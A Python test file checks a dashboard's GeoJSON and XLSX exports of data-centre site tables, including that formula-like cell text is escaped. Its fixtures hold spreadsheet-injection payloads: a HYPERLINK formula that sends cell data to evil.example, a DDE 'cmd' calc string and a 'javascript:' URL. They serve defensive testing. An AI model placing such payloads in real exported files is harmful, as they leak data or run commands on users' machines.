"""dashboard.export.formats: the data page's table as GeoJSON (read back by GDAL through pyogrio, the
reader QGIS uses) and as XLSX (opened with openpyxl), with formula-like text neutralised."""

from __future__ import annotations

import io
import json

import openpyxl
import pyogrio.raw
import pytest

from dashboard.export import formats
from dashboard.export.tables import site_table, sources_table
from tests.fixtures import NAN, fact, make_dataset, sample_dataset, site, source

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


def _geojson(dataset, lang="fr"):
    table = site_table(dataset, dataset.sites, lang)
    return table, formats.to_geojson_bytes(table, dataset.sites, dataset.sources)


def test_geojson_is_strict_rfc7946_points_with_every_column():
    dataset = sample_dataset()
    table, raw = _geojson(dataset)
    collection = json.loads(raw.decode("utf-8"), parse_constant=lambda c: pytest.fail(f"{c} in JSON"))
    assert collection["type"] == "FeatureCollection"
    assert "crs" not in collection  # RFC 7946: WGS 84 longitude, latitude — no crs member
    features = collection["features"]
    assert [f["id"] for f in features] == list(table.site_ids)
    assert len(features) == 10  # the region row is not a site on the ground
    by_id = {f["id"]: f for f in features}
    dunkerque = by_id["dc-dunkerque"]
    assert dunkerque["geometry"] == {"type": "Point", "coordinates": [2.37, 51.03]}  # lon first
    properties = dunkerque["properties"]
    assert set(table.frame.columns) <= set(properties)  # every column of the table
    assert properties["Investissement (€)"] is None  # unknown stays unknown, never 0
    assert properties["Puissance (MW)"] == 1000.0
    assert [s["id"] for s in properties["Sources (détail)"]] == ["rte", "src-b"]
    assert properties["Sources (détail)"][1] == {
        "id": "src-b", "publisher": "La Voix du Nord", "title": "Article src-b", "published": "2025-06-10",
        "url": "https://example.org/src-b", "licence": None}


def test_geojson_round_trips_through_gdal():
    dataset = sample_dataset()
    table, raw = _geojson(dataset, "en")
    meta, _, geometry, fields = pyogrio.raw.read(io.BytesIO(raw))
    assert meta["crs"] == "EPSG:4326"
    assert meta["geometry_type"] == "Point"
    assert len(geometry) == len(table.frame)
    names = list(meta["fields"])
    column = {name: values for name, values in zip(names, fields)}
    assert list(column["Name"]) == table.frame["Name"].tolist()
    power = column["Power (MW)"]
    expected = table.frame["Power (MW)"].tolist()
    assert [None if v != v else v for v in power] == [None if v != v else v for v in expected]
    assert meta["dtypes"][names.index("Power (MW)")] == "float64"  # numbers stay numbers
    sources = [json.loads(v) for v in column["Sources (details)"]]
    assert all(isinstance(s, list) and s for s in sources)  # every site traces to a source


def test_a_site_without_coordinates_keeps_its_row_with_a_null_geometry():
    dataset = make_dataset(
        sites=[site("a", "data_center", name="Placed", lat=50.1234567891, lon=2.9876543219, source_ids="s"),
               site("b", "data_center", name="Nowhere yet", lat=NAN, lon=NAN, source_ids="s")],
        facts=[fact("a", "power", 10, "2025", "s")],
        sources=[source("s", "Pub", "2025", url="javascript:alert(1)")],
    )
    _, raw = _geojson(dataset)
    features = {f["id"]: f for f in json.loads(raw)["features"]}
    assert features["b"]["geometry"] is None
    assert features["a"]["geometry"]["coordinates"] == [2.987654, 50.123457]  # 6 decimals ≈ 0.1 m
    assert features["a"]["properties"]["Sources (détail)"][0]["url"] is None  # only http(s) links


def _workbook(dataset, lang="fr"):
    table = site_table(dataset, dataset.sites, lang)
    listed = sources_table(dataset.sources, lang)
    link = "Lien" if lang == "fr" else "Link"
    return table, listed, openpyxl.load_workbook(io.BytesIO(formats.to_xlsx_bytes(table, listed, lang, link)))


def test_xlsx_has_the_sites_and_a_sheet_of_sources():
    dataset = sample_dataset()
    table, listed, workbook = _workbook(dataset, "en")
    assert workbook.sheetnames == ["Sites", "Sources"]
    sites = list(workbook["Sites"].values)
    assert list(sites[0]) == list(table.frame.columns)
    assert len(sites) == len(table.frame) + 1
    rows = {row[0]: dict(zip(sites[0], row)) for row in sites[1:]}
    assert rows["DC Dunkerque"]["Power (MW)"] == 1000  # a number, not text
    assert rows["DC Dunkerque"]["Investment (€)"] is None  # unknown: an empty cell, never 0
    sources = workbook["Sources"]
    assert [c.value for c in sources[1]] == list(listed.columns)
    assert sources.max_row == len(listed) + 1
    link_column = list(listed.columns).index("Link") + 1
    cell = sources.cell(row=2, column=link_column)
    assert cell.hyperlink is not None and cell.hyperlink.target == cell.value.strip()


def test_xlsx_neutralises_formula_like_text():
    dataset = make_dataset(
        sites=[site("evil", "data_center", name=HOSTILE_NAME, operator="@SUM(1+1)", commune="-2+3", lat=50.0,
                    lon=3.0, power_mw=-5.0, source_ids="s")],
        sources=[source("s", "+cmd|' /C calc'!A0", "2025", title="=1+1")],
    )
    _, _, workbook = _workbook(dataset)
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                    pytest.fail(f"{sheet.title}!{cell.coordinate} would run: {cell.value!r}")
    values = [c.value for c in workbook["Sites"][2]]
    assert "'" + HOSTILE_NAME in values and "'@SUM(1+1)" in values
    assert -5 in values  # a negative number stays a number
